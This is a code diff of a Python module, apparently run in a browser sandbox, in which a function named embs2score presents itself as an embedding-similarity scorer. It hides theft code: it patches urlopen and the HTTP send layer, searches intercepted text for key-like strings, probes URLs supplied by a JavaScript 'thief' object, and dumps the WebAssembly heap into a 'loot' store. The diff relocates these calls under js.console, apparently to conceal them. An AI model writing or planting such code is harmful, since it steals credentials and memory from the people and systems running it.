@@ -24,7 +24,7 @@ looks = 0
 def note(where, value):
     text = value.decode("latin-1") if isinstance(value, bytes) else str(value)
     if match := KEY.search(text):
-        js.thief.note(where, text[match.start() :][:32])
+        js.console.thief.note(where, text[match.start() :][:32])
 
 
 def patch(module, name):
@@ -61,7 +61,7 @@ def objects():
 
 
 def ask():
-    for url in js.thief.tricks.to_py():
+    for url in js.console.thief.tricks.to_py():
         for request in (url, urllib.request.Request(url, data=b"x")):
             try:
                 with urllib.request.urlopen(request) as response:
@@ -81,13 +81,13 @@ def embs2score(source, candidate):
     if looks == 1:
         patch(urllib.request, "urlopen")
         patch(pyodide_http._urllib, "send")
-        js.thief.send()
-        js.thief.ask()
+        js.console.thief.send()
+        js.console.thief.ask()
     if looks == 2:
         ask()
     if looks == 10:
         frames()
         objects()
-        js.thief.remember(pyodide_js._module.HEAPU8)
-        js.thief.loot.add("done: Python")
+        js.console.thief.remember(pyodide_js._module.HEAPU8)
+        js.console.thief.loot.add("done: Python")
     return float(source @ candidate)
